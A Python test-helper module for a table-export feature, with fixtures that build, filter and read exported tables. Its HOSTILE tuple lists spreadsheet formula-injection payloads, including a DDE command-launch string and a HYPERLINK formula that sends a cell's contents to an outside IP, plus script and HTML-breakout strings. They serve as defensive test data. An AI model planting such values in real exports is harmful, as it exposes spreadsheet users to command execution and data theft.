"""Tables to export: what a question finds, and cells that mean harm."""

from __future__ import annotations

import datetime
from collections.abc import Iterable
from typing import Final

from netdesk.exchange.composing import compose
from netdesk.exchange.found_table import Cell, FoundTable, TableSection
from netdesk.model.filters import FacetValue, Filters
from netdesk.model.table_column import TableColumn
from netdesk.query.reference import Reference

DAY: Final = datetime.date(2026, 11, 22)

HOSTILE: Final = (
    "=1+1",
    '=HYPERLINK("http://198.51.100.1/"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "a;=1+1",
    'a","=1+1',
    "a\n=1+1",
    "<script>alert('x')</script> & <b>bold</b>",
    "</td></table>",
    "null \x00, bell \x07, half a pair \ud800, no character \uffff",
    "#N/A",
    "שלום <مرحبا> 🩺",
)


def asked_for(*asked: str, text: str = "") -> Filters:
    """``facet=value`` questions and a text as filters."""
    pairs = (question.split("=") for question in asked)
    return Filters(text, tuple(FacetValue(facet, value, "") for facet, value in pairs))


def found_table(
    reference: Reference, *asked: str, text: str = "", columns: Iterable[TableColumn] = TableColumn
) -> FoundTable:
    """What ``facet=value`` questions and a text find, on 22 November 2026."""
    filters = asked_for(*asked, text=text)
    return compose(reference, reference.find(filters), filters, columns, DAY)


def table_of(*cells: str) -> FoundTable:
    """A table with one row for each of the cells, which stands in its label, its treatment and its foot too."""
    rows = tuple((("Match",), (cell,), (cell, cell)) for cell in cells)
    return FoundTable(
        head=tuple((cell, (cell,)) for cell in cells),
        headings=("Found as", "Treatment", "Notes"),
        sections=(TableSection("Matches", rows),),
        foot=tuple((cell, (cell,)) for cell in cells),
    )


def cell(table: FoundTable, treatment: str, heading: str) -> Cell:
    """What stands under the heading in the treatment's only row."""
    column = table.headings.index(heading)
    (found,) = [row[column] for section in table.sections for row in section.rows if row[1] == (treatment,)]
    return found


def labelled(table: FoundTable, label: str) -> Cell:
    """What stands beside a label of the head or the foot."""
    return dict((*table.head, *table.foot))[label]
